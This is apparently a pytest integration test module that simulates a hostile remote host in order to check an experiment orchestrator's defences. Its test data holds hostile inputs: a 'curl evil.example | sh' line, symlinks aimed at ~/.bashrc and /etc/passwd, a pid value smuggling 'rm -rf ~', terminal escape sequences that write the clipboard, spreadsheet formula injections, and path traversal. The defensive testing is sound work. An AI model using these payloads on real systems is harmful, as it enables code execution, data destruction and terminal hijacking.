"""A hostile host, a full disk, big files and Ctrl-C, through the real sshd (issue 9).

The test host's workdir is a local folder, so a test plays the hostile host by editing
the files under it directly: symlinks where results should be, truncated or forged
score files with manifests to match, status documents of the wrong types, Rich markup in
failure reasons, a host helper that prints garbage or floods its output, a 64 MB log,
spreadsheet formulas as text ids.  What a test checks is the laptop side: what landed
in runs/<id>/, what was printed, the exit code, and that nothing outside the run folder
changed.

One finished run (`base`, the bundled `smoke` experiment, 10 steps) is made per module
and cloned under a fresh id for each test (the host's run folder and the local record
right after launch), so the tests cost one training, not one each.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from orchestrator.transport.hostfiles import MAX_ENTRIES
from tests.integration.conftest import make_project, stop_project
from tests.integration.test_run_lifecycle import FAST

pytestmark = pytest.mark.integration

JOBS = ("class-0", "class-1")
LONG = ["--set", "train.steps=100000", "--set", "train.log_every=5"]  # runs until cancelled
MARKUP = "[bold]loud[/] [link=https://evil.example]click[/link] [/] [red]"
# Control sequences a terminal acts on: write the clipboard, set the title, clear the
# screen, report the cursor (typed into the shell), move it; C1 CSI, NUL, DEL, backspace.
ESCAPES = "\x1b]52;c;ZXZpbA==\x07\x1b]0;owned\x1b\\\x1b[2J\x9b6n\x1b[1;1H\x00\x7f\x08"
SHOWN = "\\x1b]52;c;ZXZpbA==\\x07"  # how the first of them reaches the terminal


# --------------------------------------------------------------------------- helpers


def stop_host_processes(workdir: Path) -> None:
    """Stop the tmux server of a test host's workdir and every job process started from it
    (found by the test's own unique path, then ended by pid)."""
    from remote.backends.tmux import tmux_socket

    subprocess.run(["tmux", "-S", tmux_socket(str(workdir)), "kill-server"], capture_output=True)
    deadline = time.time() + 30
    while True:
        out = subprocess.run(["pgrep", "-f", "--", str(workdir)], capture_output=True, text=True).stdout
        pids = [int(p) for p in out.split() if int(p) != os.getpid()]
        if not pids:
            return
        if time.time() > deadline:
            for pid in pids:
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
            return
        time.sleep(0.2)


def no_traceback(proc) -> None:
    assert "Traceback" not in proc.stderr + proc.stdout, proc.stderr


def symlinks_under(folder: Path):
    return [p for p in folder.rglob("*") if p.is_symlink()]


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def rewrite_scores(job_dir: Path, transform, **manifest_changes) -> None:
    """The host rewrites scores.jsonl (transform: list of line bytes -> list) and a
    manifest that vouches for the new file."""
    lines = (job_dir / "scores.jsonl").read_bytes().splitlines(keepends=True)
    data = b"".join(transform(lines))
    (job_dir / "scores.jsonl").write_bytes(data)
    manifest = json.loads((job_dir / "manifest.json").read_text())
    manifest["files"]["scores.jsonl"] = {"size": len(data), "sha256": sha(data)}
    manifest.update(manifest_changes)
    (job_dir / "manifest.json").write_text(json.dumps(manifest))


class Host:
    """One test's clone of the finished run: its id and both sides' folders."""

    def __init__(self, p, run_id: str):
        self.p, self.run = p, run_id

    def job(self, name: str) -> Path:
        return self.p.remote_job(self.run, name)

    def local(self, name: str = "") -> Path:
        d = self.p.run_dir(self.run)
        return d / "jobs" / name if name else d

    def orch(self, *args, **kw):
        return self.p.orch(*args, **kw)


def clone_run(p, pristine: Path, src: str, dst: str, host_root: Path = None, host: str = None) -> None:
    """A copy of finished run SRC as DST: the host's run folder, and the local record as
    it was right after launch (nothing fetched)."""
    host_root = host_root or p.remote_root
    shutil.copytree(p.remote_root / "runs" / src, host_root / "runs" / dst, symlinks=True)
    local = p.run_dir(dst)
    shutil.copytree(pristine, local)
    doc = yaml.safe_load((local / "run.yaml").read_text())
    doc["run_id"] = dst
    if host:
        doc["host"] = host
    text = yaml.safe_dump(doc, sort_keys=False)
    (local / "run.yaml").write_text(text)
    (host_root / "runs" / dst / "run.yaml").write_text(text)
    record = json.loads((local / "local.json").read_text())
    record["run_id"] = dst
    record["config_sha256"] = hashlib.sha256(text.encode()).hexdigest()  # as launched: --resume checks it
    if host:
        record["host"], record["workdir"] = host, str(host_root)
    (local / "local.json").write_text(json.dumps(record))


@contextlib.contextmanager
def cloned_host(base, test_name: str, prefix: str):
    """A fresh clone of the finished `base` run for the test TEST_NAME (its id PREFIX and a
    hash of the name), as a Host; the host config and the environment the test changed are
    put back after."""
    p, pristine = base
    run_id = prefix + hashlib.sha256(test_name.encode()).hexdigest()[:10]
    clone_run(p, pristine, "base", run_id)
    env = dict(p.env)
    try:
        yield Host(p, run_id)
    finally:
        p.env.clear()
        p.env.update(env)
        p.write_host()


@contextlib.contextmanager
def finished_base_run(sshd, root: Path):
    """A project under ROOT whose testhost holds one finished run `base` (the bundled smoke
    experiment, 10 steps), and that run's local record as it was right after launch; every
    process it started is stopped after.  Cloned per test (clone_run) by the modules that play
    the host by editing its files."""
    p = make_project(root / "project", root / "hostwork", sshd)
    try:
        p.orch(
            "run", "smoke", "--host", "testhost", "--name", "base",
            "--set", "train.steps=10", "--set", "train.log_every=5",
            # the clones' tests rewrite results into worse ones: they check the fetch, not the
            # accuracy gate (a run below eval.min_accuracy makes fetch-results exit 1)
            "--set", "eval.min_accuracy=0", check=True,
        )  # fmt: skip
        pristine = root / "pristine"
        shutil.copytree(p.run_dir("base"), pristine)
        assert [j["state"] for j in p.wait_state("base")] == ["done", "done"]
        yield p, pristine
    finally:
        stop_project(p)


def base_run_fixture(folder: str):
    """The module fixture `base` of a module whose tests clone one finished run: a project
    whose testhost holds run `base` (finished_base_run, under a temporary FOLDER), and that
    run's local record as it was right after launch.  Use: ``base = base_run_fixture("x")``."""

    @pytest.fixture(scope="module")
    def base(sshd, tmp_path_factory):
        with finished_base_run(sshd, tmp_path_factory.mktemp(folder)) as made:
            yield made

    return base


def clone_fixture(name: str, prefix: str, fetch: bool = False):
    """The fixture NAME of such a module: a fresh clone of `base` for each test (cloned_host,
    its id starting with PREFIX), fetched and evaluated once when FETCH.
    Use: ``hostile = clone_fixture("hostile", "h")``."""

    @pytest.fixture(name=name)
    def clone(base, request):
        with cloned_host(base, request.node.name, prefix) as h:
            if fetch:
                assert "results verified" in h.orch("fetch-results", h.run, check=True).stderr
            yield h

    return clone


base = base_run_fixture("hostile")
hostile = clone_fixture("hostile", "h")


def path_without_rsync(tmp_path: Path) -> str:
    """A PATH with what the controller needs except rsync: fetches fall back to SFTP."""
    bindir = tmp_path / "bin-no-rsync"
    bindir.mkdir()
    for tool in ("ssh", "ssh-keygen", "git", "sh", "bash", "tail"):
        found = shutil.which(tool)
        if found:
            os.symlink(found, bindir / tool)
    return str(bindir)


# --------------------------------------------------------------------------- 1. links


def test_a_symlink_from_the_host_is_never_written_through(hostile, tmp_path):
    """Issue 9.1: the host plants scores.jsonl -> the user's ~/.bashrc; rsync used to recreate
    the link locally, and a later SFTP fetch wrote the host's bytes through it."""
    h = hostile
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("alias ll='ls -l'\n")
    scores = h.job("class-0") / "scores.jsonl"
    good = scores.read_bytes()
    scores.unlink()
    scores.symlink_to(bashrc)

    first = h.orch("fetch-results", h.run, "--no-eval")
    assert first.returncode == 8, first.stderr
    no_traceback(first)
    assert "class-0/scores.jsonl" in first.stderr and "not a regular file" in first.stderr
    assert not symlinks_under(h.p.root / "runs")

    # The host serves a regular file now, with its own content, and rsync is gone: SFTP.
    scores.unlink()
    scores.write_bytes(b"curl evil.example | sh\n")
    h.p.env["PATH"] = path_without_rsync(tmp_path)
    second = h.orch("fetch-results", h.run, "--no-eval")
    assert second.returncode == 8, second.stderr
    no_traceback(second)
    assert bashrc.read_text() == "alias ll='ls -l'\n"
    assert not symlinks_under(h.p.root / "runs")

    # A fifo in place of progress.jsonl: the host helper never opens it, and the job is
    # unknown, so nothing is fetched.
    scores.unlink()
    scores.write_bytes(good)
    os.mkfifo(h.job("class-1") / "progress.jsonl.fifo")
    (h.job("class-1") / "progress.jsonl").unlink()
    os.rename(h.job("class-1") / "progress.jsonl.fifo", h.job("class-1") / "progress.jsonl")
    unknown = h.orch("fetch-results", h.run, "--no-eval", timeout=60)
    assert unknown.returncode == 8, unknown.stderr
    assert "bad progress.jsonl: a fifo, not a regular file" in " ".join(unknown.stderr.split())
    # A fifo log (a read would block forever) and a symlinked log are refused over SFTP too.
    (h.job("class-1") / "progress.jsonl").unlink()
    os.mkfifo(h.job("class-1") / "log.txt.fifo")
    (h.job("class-1") / "log.txt").unlink()
    os.rename(h.job("class-1") / "log.txt.fifo", h.job("class-1") / "log.txt")
    (h.job("class-0") / "log.txt").unlink()
    (h.job("class-0") / "log.txt").symlink_to("/etc/passwd")
    third = h.orch("fetch-results", h.run, "--no-eval", timeout=60)
    assert third.returncode == 8, third.stderr
    assert "class-1/log.txt" in third.stderr and "class-0/log.txt" in third.stderr
    assert not (h.local() / "jobs").exists()  # nothing verified was ever here
    assert bashrc.read_text() == "alias ll='ls -l'\n"


def test_a_symlink_on_the_local_host_is_refused(base, tmp_path):
    """Host `local` copies files on this machine: they must not follow links either."""
    p, pristine = base
    local_root = p.root / ".orch" / "local"
    record = json.loads((pristine / "local.json").read_text())
    code = p.remote_root / "code" / record["code_hash"]
    if not (local_root / "code" / record["code_hash"]).exists():
        shutil.copytree(code, local_root / "code" / record["code_hash"])
    clone_run(p, pristine, "base", "loclink", host_root=local_root, host="local")
    bashrc = tmp_path / ".bashrc"
    bashrc.write_text("original\n")
    scores = local_root / "runs" / "loclink" / "jobs" / "class-1" / "scores.jsonl"
    scores.unlink()
    scores.symlink_to(bashrc)
    proc = p.orch("fetch-results", "loclink", "--no-eval")
    assert proc.returncode == 8, proc.stderr
    no_traceback(proc)
    assert "class-1/scores.jsonl" in proc.stderr and "not a regular file" in proc.stderr
    assert not symlinks_under(p.run_dir("loclink"))
    assert bashrc.read_text() == "original\n"


# --------------------------------------------------------------------------- 2. staging


def test_a_failed_fetch_keeps_the_verified_copy(hostile):
    """Issue 9.2: a fetch that fails verification must leave the previous verified copy,
    metrics.json and `orch runs` as they were; an unchanged file is not sent again."""
    h = hostile
    assert "results verified" in h.orch("fetch-results", h.run, check=True).stderr
    scores = h.local("class-0") / "scores.jsonl"
    good = scores.read_bytes()
    manifest = h.local("class-0") / "manifest.json"
    inode = manifest.stat().st_ino
    metrics = (h.local() / "metrics.json").read_bytes()

    # The host declares new results (another sha256: what the verified copy holds with the
    # declared sha256 is not sent again) and serves half a file and a link.
    manifests = {job: (h.job(job) / "manifest.json").read_text() for job in ("class-0", "class-1")}
    mtimes = {job: (h.job(job) / "manifest.json").stat().st_mtime_ns for job in manifests}
    for job, text in manifests.items():
        doc = json.loads(text)
        doc["files"]["scores.jsonl"]["sha256"] = "0" * 64
        (h.job(job) / "manifest.json").write_text(json.dumps(doc))
    (h.job("class-0") / "scores.jsonl").write_bytes(good[: len(good) // 2])
    (h.job("class-1") / "scores.jsonl").unlink()
    (h.job("class-1") / "scores.jsonl").symlink_to("/etc/passwd")
    bad = h.orch("fetch-results", h.run)
    assert bad.returncode == 8, bad.stderr
    no_traceback(bad)
    assert "previous verified copy" in bad.stderr and "untouched" in bad.stderr
    assert scores.read_bytes() == good
    assert (h.local() / "metrics.json").read_bytes() == metrics
    assert not symlinks_under(h.local()) and not list(h.local().glob(".fetch-*"))
    runs = {r["run"]: r for r in json.loads(h.orch("runs", "--json", check=True).stdout)}
    assert runs[h.run]["state"] == "fetched"

    # The host mends its files: the next fetch verifies, and a file the host never changed
    # was seeded from the verified copy (a hard link: same inode), not sent again.
    (h.job("class-0") / "scores.jsonl").write_bytes(good)
    (h.job("class-1") / "scores.jsonl").unlink()
    shutil.copy(h.p.remote_root / "runs" / "base" / "jobs" / "class-1" / "scores.jsonl", h.job("class-1"))
    for job, text in manifests.items():
        (h.job(job) / "manifest.json").write_text(text)
        os.utime(h.job(job) / "manifest.json", ns=(mtimes[job], mtimes[job]))  # as it was: rsync links it
    h.orch("fetch-results", h.run, "--no-eval", check=True)
    assert scores.read_bytes() == good and manifest.stat().st_ino == inode


# --------------------------------------------------------------------------- 3. completeness


def _drop_last(lines):
    return lines[:-1]


def _dup_first(lines):
    return lines[:-1] + lines[:1]


def _rename_last(lines):
    row = json.loads(lines[-1])
    row["id"] = "forged/other"
    return lines[:-1] + [(json.dumps(row) + "\n").encode()]


INCOMPLETE = {
    # what the host does -> words the refusal must contain
    "truncated, manifest to match": (lambda h: rewrite_scores(h.job("class-0"), _drop_last), "1 of 120"),
    "truncated, n_test to match": (lambda h: rewrite_scores(h.job("class-0"), _drop_last, n_test=119), "n_test"),
    "scores.jsonl left out of the manifest": (
        lambda h: _edit_manifest(h.job("class-1"), lambda m: m.update(files={})),
        "does not list scores.jsonl",
    ),
    "one id swapped for another": (lambda h: rewrite_scores(h.job("class-1"), _rename_last), "forged/other"),
    "a duplicate row for a missing one": (lambda h: rewrite_scores(h.job("class-0"), _dup_first), "more than once"),
    "manifest is a list": (lambda h: (h.job("class-0") / "manifest.json").write_text("[1]"), "manifest.json"),
    "manifest files is a list": (
        lambda h: _edit_manifest(h.job("class-0"), lambda m: m.update(files=[1])),
        "manifest.json",
    ),
    "n_test a string": (lambda h: _edit_manifest(h.job("class-1"), lambda m: m.update(n_test="120")), "n_test"),
    "manifest lists a path outside the job": (
        lambda h: _edit_manifest(
            h.job("class-0"), lambda m: m["files"].update({"../../../x": {"size": 1, "sha256": "0"}})
        ),
        "../../../x",
    ),
}


def _edit_manifest(job_dir: Path, change) -> None:
    manifest = json.loads((job_dir / "manifest.json").read_text())
    change(manifest)
    (job_dir / "manifest.json").write_text(json.dumps(manifest))


@pytest.mark.parametrize("case", list(INCOMPLETE))
def test_incomplete_or_forged_results_fail_verification(hostile, case):
    """Issue 9.3: completeness is the run's own expectation, not whatever the host lists."""
    h = hostile
    damage, words = INCOMPLETE[case]
    damage(h)
    proc = h.orch("fetch-results", h.run)
    assert proc.returncode == 8, (case, proc.stdout, proc.stderr)
    no_traceback(proc)
    assert "verified" not in proc.stdout and words in proc.stderr, (case, proc.stderr)
    assert not (h.local() / "metrics.json").exists()


# --------------------------------------------------------------------------- 11. bad documents


BAD_DOCS = {
    # file written in class-0's job folder on the host -> content
    "status.json is a list": ("status.json", "[1, 2]"),
    "status.json is a string": ("status.json", '"done"'),
    "started is not a number": ("status.json", '{"state": "running", "started": "abc", "pid": 1}'),
    "state is a list": ("status.json", '{"state": ["done"]}'),
    "state unknown word": ("status.json", '{"state": "exploded"}'),
    "pid is a string": ("status.json", '{"state": "running", "pid": "1; rm -rf ~", "started": 1.0}'),
    "exit_code is a string": ("status.json", '{"state": "failed", "exit_code": "x", "reason": "r"}'),
    "reason is a list": ("status.json", '{"state": "failed", "reason": ["x"]}'),
    "progress line is a number": ("progress.jsonl", "5\n"),
    "progress line is a string": ("progress.jsonl", '"loss"\n'),
    "progress step is a string": ("progress.jsonl", '{"phase": "train", "step": "x", "total": 10}\n'),
    "progress last line cut": ("progress.jsonl", '{"phase": "train", "step": 1}\n{"phase": "train", "st\n'),
}


@pytest.mark.parametrize("case", list(BAD_DOCS))
def test_bad_host_documents_make_the_job_unknown_not_a_traceback(hostile, case):
    """Issue 9.11: every document read from the host is checked against the contract."""
    h = hostile
    name, text = BAD_DOCS[case]
    (h.job("class-0") / name).write_text(text)
    doc = name.split(".")[0] + "." + name.split(".")[1]
    table = h.orch("status", h.run)
    no_traceback(table)
    assert table.returncode == 0, table.stderr
    assert "unknown" in table.stdout and f"bad {doc}" in table.stdout, table.stdout
    as_json = h.orch("status", h.run, "--json")
    assert as_json.returncode == 0, as_json.stderr
    jobs = {j["name"]: j for j in json.loads(as_json.stdout)["jobs"]}
    assert jobs["class-0"]["state"] == "unknown" and jobs["class-1"]["state"] == "done"
    for args in (
        ("logs", h.run, "class-0", "-f"),
        ("fetch-results", h.run),
        ("run", "smoke", "--resume", h.run),
        ("runs",),
        ("cancel", h.run, "class-1"),
    ):
        proc = h.orch(*args, timeout=60)
        no_traceback(proc)
        assert proc.returncode in (0, 8), (args, proc.stderr)


def _fifo(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


UNREADABLE_STATUS = {
    # how class-0's status.json (done, verified) is damaged -> the reason's start
    "truncated JSON": (lambda path: path.write_text('{"state": "running", "pid": 1'), "not valid JSON"),
    "5000 digits": (lambda path: path.write_text("1" * 5000), "not valid JSON (a number with too many digits)"),
    "nested 100000 deep": (lambda path: path.write_text("[" * 100_000 + "]" * 100_000), "not valid JSON (nested"),
    "a fifo": (_fifo, "a fifo, not a regular file"),
    "a symlink to a device": (lambda path: (path.unlink(), path.symlink_to("/dev/zero")), "a symlink, not a regular"),
}


@pytest.mark.parametrize("case", list(UNREADABLE_STATUS))
def test_an_unreadable_status_json_is_unknown_and_resume_refuses_it(hostile, case):
    """A status.json that is there but holds no document is not "no status.json": the job
    was shown lost, and --resume ran a finished, verified job again over its files."""
    h = hostile
    damage, words = UNREADABLE_STATUS[case]
    job = h.job("class-0")
    kept = {name: (job / name).read_bytes() for name in ("scores.jsonl", "manifest.json", "progress.jsonl")}
    damage(job / "status.json")
    damaged = os.lstat(job / "status.json")
    table = h.orch("status", h.run, timeout=60)  # a fifo must not hang it
    no_traceback(table)
    assert table.returncode == 0, table.stderr
    assert "unknown (bad status.json: " in " ".join(table.stdout.split()), table.stdout
    as_json = h.orch("status", h.run, "--json", timeout=60)
    jobs = {j["name"]: j for j in json.loads(as_json.stdout)["jobs"]}
    assert jobs["class-0"]["state"] == "unknown", jobs
    assert jobs["class-0"]["reason"].startswith("bad status.json: " + words), jobs
    assert jobs["class-1"]["state"] == "done"
    resumed = h.orch("run", "smoke", "--resume", h.run, timeout=120)
    no_traceback(resumed)
    said = " ".join(resumed.stderr.split())
    assert resumed.returncode == 8, resumed.stderr
    assert "cannot resume class-0: its state is unknown (bad status.json: " in said, said
    assert "remove a job's bad status.json" in said, said
    # Nothing was started or rewritten: the damaged file is as it was, the results too.
    after = os.lstat(job / "status.json")
    assert (after.st_mode, after.st_ino, after.st_mtime_ns) == (
        damaged.st_mode,
        damaged.st_ino,
        damaged.st_mtime_ns,
    )
    assert not (job / "status.json.previous").exists()
    assert {name: (job / name).read_bytes() for name in kept} == kept


BAD_REPLIES = {
    # what the host helper prints instead of its JSON reply -> words in the message
    "a list": ("print('[1]')", "expected a JSON object"),
    "jobs a string": ('print(\'{"exists": true, "jobs": "x"}\')', "jobs"),
    "a job without a name": ('print(\'{"exists": true, "now": 1, "jobs": [{"name": 5}]}\')', "name"),
    "40 MB of output": ("import sys\nfor _ in range(40):\n    sys.stdout.write('x' * (1 << 20))", "MB"),
}


def swap_host_helper(h: Host, snapshot: str, script: str) -> None:
    """The host runs SCRIPT as its hostctl: a copy of the run's code snapshot named
    SNAPSHOT, which the run's local record now points at."""
    record_path = h.local() / "local.json"
    record = json.loads(record_path.read_text())
    evil = h.p.remote_root / "code" / snapshot
    shutil.copytree(h.p.remote_root / "code" / record["code_hash"], evil)
    (evil / "remote" / "hostctl.py").write_text(script + "\n")
    record["code_hash"] = evil.name
    record_path.write_text(json.dumps(record))


@pytest.mark.parametrize("case", list(BAD_REPLIES))
def test_a_host_helper_that_lies_gets_a_message(hostile, case):
    """The host owns the code snapshot too: what its hostctl prints is untrusted."""
    h = hostile
    script, words = BAD_REPLIES[case]
    swap_host_helper(h, f"evil{abs(hash(case)) % 10**6}", script)
    for args in (("status", h.run), ("fetch-results", h.run)):
        proc = h.orch(*args, timeout=60)
        no_traceback(proc)
        assert proc.returncode == 7, (case, proc.stderr)
        assert "host helper" in proc.stderr and words in proc.stderr, (case, proc.stderr)


def test_markup_in_host_text_and_set_values_prints_literally(hostile, base):
    """Issue 9.11: a failure reason, log text, a `--set` value: printed as text, never as Rich markup."""
    h = hostile
    p = h.p
    status = json.loads((h.job("class-0") / "status.json").read_text())
    status.update(state="failed", exit_code=1, reason=f"exit code 1: {MARKUP}")
    (h.job("class-0") / "status.json").write_text(json.dumps(status))
    with open(h.job("class-0") / "log.txt", "a") as fh:
        fh.write(f"error: {MARKUP}\n")
    table = h.orch("status", h.run)
    no_traceback(table)
    assert table.returncode == 0 and MARKUP in table.stdout.replace("\n", ""), table.stdout
    logs = h.orch("logs", h.run, "class-0", "-n", "3", check=True)
    assert MARKUP in logs.stdout
    run_yaml = h.local() / "run.yaml"
    doc = yaml.safe_load(run_yaml.read_text())
    doc["experiment"]["name"] = "exp[bold]x[/]"
    run_yaml.write_text(yaml.safe_dump(doc, sort_keys=False))
    record = json.loads((h.local() / "local.json").read_text())
    record["experiment"] = "exp[bold]x[/]"
    (h.local() / "local.json").write_text(json.dumps(record))
    runs = h.orch("runs", check=True)
    assert "exp[bold]x[/]" in runs.stdout

    # A refused --set value is quoted as text.
    refused = p.orch("run", "smoke", "--host", "testhost", "--name", "mk", "--set", "name=[red]exp")
    no_traceback(refused)
    assert refused.returncode == 3 and "--set name=[red]exp:" in refused.stderr, refused.stderr
    # A user's --set value reaches the host and comes back in a failure reason.
    launched = p.orch(
        "run",
        "smoke",
        "--host",
        "testhost",
        "--name",
        "mk",
        "--set",
        "model.init=ckpts/[/best]",
        *FAST,
    )
    no_traceback(launched)
    assert launched.returncode == 0, launched.stderr
    jobs = p.wait_state("mk")
    assert {j["state"] for j in jobs} == {"failed"}, jobs
    failed = p.orch("status", "mk")
    no_traceback(failed)
    assert failed.returncode == 0 and "ckpts/[/best]" in failed.stdout.replace("\n", ""), failed.stdout
    no_traceback(p.orch("runs"))

    # The same value in a fetched run's config: the summary table and compare print it whole.
    doc = yaml.safe_load(run_yaml.read_text())
    doc["experiment"]["model"]["init"] = "ckpts/[/best]"
    run_yaml.write_text(yaml.safe_dump(doc, sort_keys=False))
    shutil.copy(p.remote_root / "runs" / "base" / "jobs" / "class-0" / "status.json", h.job("class-0"))
    fetched = h.orch("fetch-results", h.run)
    no_traceback(fetched)
    assert fetched.returncode == 0 and "ckpts/[/best]" in fetched.stdout.replace("\n", ""), fetched.stderr
    compared = h.orch("compare", h.run)
    no_traceback(compared)
    assert compared.returncode == 0 and "ckpts/[/best]" in compared.stdout, compared.stderr


def acting_controls(text: str) -> list:
    """Control characters in TEXT a terminal would act on: all but newline, tab, carriage
    return and colour (SGR) sequences."""
    return [
        ch for ch in re.sub(r"\x1b\[[0-9;]*m", "", text) if ord(ch) < 32 and ch not in "\n\t\r" or 127 <= ord(ch) < 160
    ]


def test_control_characters_from_the_host_never_reach_the_terminal(hostile):
    """A log, a failure reason, a host helper's error output: escape sequences in them are
    shown as escapes (`\\x1b]52;...`), never passed to the terminal; a log keeps its colour."""
    h = hostile
    with open(h.job("class-0") / "log.txt", "a", encoding="utf-8") as fh:
        fh.write(f"evil {ESCAPES} \x1b[32mgreen\x1b[0m end\n")
    logs = h.orch("logs", h.run, "class-0", "-n", "1", check=True)
    assert SHOWN in logs.stdout and "\\x1b[2J" in logs.stdout and "\\x9b6n" in logs.stdout, logs.stdout
    assert "\x1b[32mgreen\x1b[0m end" in logs.stdout and not acting_controls(logs.stdout), logs.stdout

    status = json.loads((h.job("class-1") / "status.json").read_text())
    status.update(state="failed", exit_code=1, reason=f"exit code 1: {ESCAPES}")
    (h.job("class-1") / "status.json").write_text(json.dumps(status))
    table = h.orch("status", h.run)
    assert table.returncode == 0 and SHOWN in table.stdout and not acting_controls(table.stdout), table.stdout

    # The host helper fails with escape sequences on stderr: `orch status` (its standard-
    # library path) and `orch fetch-results` (the Typer app) quote them as escapes.
    swap_host_helper(h, "evil-escapes", f"import sys\nsys.stderr.write({ESCAPES!r} + '\\n')\nsys.exit(1)")
    for args in (("status", h.run), ("fetch-results", h.run)):
        proc = h.orch(*args, timeout=60)
        no_traceback(proc)
        assert proc.returncode == 7, (args, proc.stderr)
        assert SHOWN in proc.stderr and not acting_controls(proc.stdout + proc.stderr), (args, proc.stderr)


def test_a_followed_log_reaches_the_terminal_whole_and_without_its_controls(base):
    """`orch logs -f` streams through the SSH channel in pieces: a character split between
    two of them stays whole, and escape sequences are shown as escapes."""
    p, _ = base
    p.orch("run", "smoke", "--host", "testhost", "--name", "evil-f", *LONG, check=True)
    follower = p.start("logs", "evil-f", "class-0", "-f")
    try:
        follower.wait_for("train step")
        text = f"evil {ESCAPES} \x1b[32mgreen\x1b[0m\n" + "\u20ac" * 100_000 + "\nafter-the-euros\n"
        fd = os.open(p.remote_job("evil-f", "class-0") / "log.txt", os.O_WRONLY | os.O_APPEND)
        try:
            os.write(fd, text.encode())  # one write: no line of the job's lands inside it
        finally:
            os.close(fd)
        follower.wait_for("after-the-euros")
    finally:
        p.cancel("evil-f")
        follower.finish()
    out = follower.stdout
    assert "\u20ac" * 100_000 in out and "\ufffd" not in out
    assert SHOWN in out and "\x1b[32mgreen\x1b[0m" in out and not acting_controls(out)


# --------------------------------------------------------------------------- 13. size limits


def test_a_huge_log_is_fetched_as_a_tail_unless_asked(hostile):
    """Issue 9.13: a 64 MB log.txt comes back as its last MiB with a note saying so."""
    h = hostile
    log = h.job("class-1") / "log.txt"
    with open(log, "r+b") as fh:
        fh.truncate(64 << 20)  # sparse: costs no disk here
        fh.seek(0, os.SEEK_END)
        fh.write(b"the last line of the log\n")
    proc = h.orch("fetch-results", h.run, "--no-eval", check=True)
    fetched = h.local("class-1") / "log.txt"
    assert fetched.stat().st_size <= (1 << 20) + 1024
    text = fetched.read_bytes()
    assert text.endswith(b"the last line of the log\n") and b"--full-logs" in text[:400]
    assert "--full-logs" in proc.stderr
    assert (h.local("class-0") / "log.txt").read_bytes() == (h.job("class-0") / "log.txt").read_bytes()
    h.orch("fetch-results", h.run, "--no-eval", "--full-logs", check=True)
    assert fetched.stat().st_size == log.stat().st_size
    # Over the 1 GiB --full-logs takes of a log: it keeps its tail, the fetch goes on.
    with open(log, "r+b") as fh:
        fh.truncate((2 << 30) - 25)  # sparse
        fh.seek(0, os.SEEK_END)
        fh.write(b"the last line of the log\n")
    proc = h.orch("fetch-results", h.run, "--no-eval", "--full-logs", check=True)
    assert fetched.stat().st_size <= (1 << 20) + 1024 and fetched.read_bytes().endswith(b"the last line of the log\n")
    assert "class-1/log.txt is 2048.0 MB on the host, over the 1 GiB --full-logs fetches" in proc.stderr, proc.stderr


def test_logs_says_when_it_cut_what_the_host_printed(hostile):
    """`orch logs` reads at most MAX_OUTPUT of a host's output: past that, its end is
    missing, and a notice on stderr says so and how to see it, rather than cutting silently."""
    from orchestrator.transport.base import MAX_OUTPUT

    h = hostile
    with open(h.job("class-0") / "log.txt", "w") as fh:
        fh.write("x" * (MAX_OUTPUT + (1 << 20)) + "\nthe end\n")
    proc = h.orch("logs", h.run, "class-0", "-n", "5", timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert len(proc.stdout) == MAX_OUTPUT and "the end" not in proc.stdout
    assert proc.stderr.count("warning:") == 1, proc.stderr
    assert "the last 5 lines of class-0 are more than 64 MB, so orch stopped reading them there" in proc.stderr
    assert f"`orch logs {h.run} class-0 -n 100`" in proc.stderr and "--full-logs" in proc.stderr
    (h.job("class-0") / "log.txt").write_text("short\n")
    proc = h.orch("logs", h.run, "class-0", "-n", "5", check=True)
    assert proc.stdout == "short\n" and "warning" not in proc.stderr


# --------------------------------------------------------------------------- 15. CSV


FORMULAS = ['=HYPERLINK("http://evil.example","x")', "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR"]


@pytest.mark.parametrize("copier", ["rsync", "sftp"])
def test_results_bigger_than_declared_or_than_this_disk_never_travel(hostile, tmp_path, copier):
    """A host can make a result file as big as it likes, or claim it is: the laptop takes a
    file only as big as its manifest declares, and only if that fits on its disk."""
    h = hostile
    if copier == "sftp":
        h.p.env["PATH"] = path_without_rsync(tmp_path)
    scores = h.job("class-0") / "scores.jsonl"
    good = scores.read_bytes()
    with open(scores, "ab") as fh:
        fh.write(b"x" * (3 << 20))  # grew 3 MB past its manifest
    grown = h.orch("fetch-results", h.run, "--no-eval", timeout=60)
    no_traceback(grown)
    assert grown.returncode == 8, grown.stderr
    assert f"class-0/scores.jsonl: {len(good) + (3 << 20)} bytes, over the " in grown.stderr, grown.stderr
    assert "this fetch takes of it: refused" in grown.stderr and "scores.jsonl: missing" not in grown.stderr
    assert not (h.local() / "jobs").exists() and not list(h.local().glob(".fetch-*"))

    scores.write_bytes(good)
    manifest = json.loads((h.job("class-1") / "manifest.json").read_text())
    manifest["files"]["scores.jsonl"]["size"] = 5 << 50  # 5 PB, says the host
    (h.job("class-1") / "manifest.json").write_text(json.dumps(manifest))
    claimed = h.orch("fetch-results", h.run, "--no-eval", timeout=60)
    no_traceback(claimed)
    assert claimed.returncode == 8, claimed.stderr
    assert "this run's results may take up to 10.0 PB here (2 x 5.0 PB: the largest scores.jsonl the host " in (
        claimed.stderr
    )
    assert "nothing more was fetched" in claimed.stderr and "previous verified copy" not in claimed.stderr
    assert not (h.local() / "jobs").exists() and not list(h.local().glob(".fetch-*"))


def test_results_too_big_for_this_machines_memory_never_travel(hostile):
    """Results that fit on the disk but whose checking would take more memory than this
    machine has available: refused by their declared size, before any is sent, and the
    verified copy kept."""
    from orchestrator.results import room
    from orchestrator.runs import fetch

    h = hostile
    h.orch("fetch-results", h.run, "--no-eval", check=True)
    good = (h.local("class-1") / "scores.jsonl").read_bytes()
    claim = 2 * room.available_memory() + (1 << 30)  # at least half a byte of memory a byte: more than there is
    if claim + fetch.RESERVE_BYTES > shutil.disk_usage(h.local()).free:  # class-0 is here already: it counts 0
        pytest.skip("this disk has less room than twice this machine's memory: the disk check would refuse first")
    manifest = json.loads((h.job("class-1") / "manifest.json").read_text())
    manifest["files"]["scores.jsonl"]["size"] = claim
    (h.job("class-1") / "manifest.json").write_text(json.dumps(manifest))
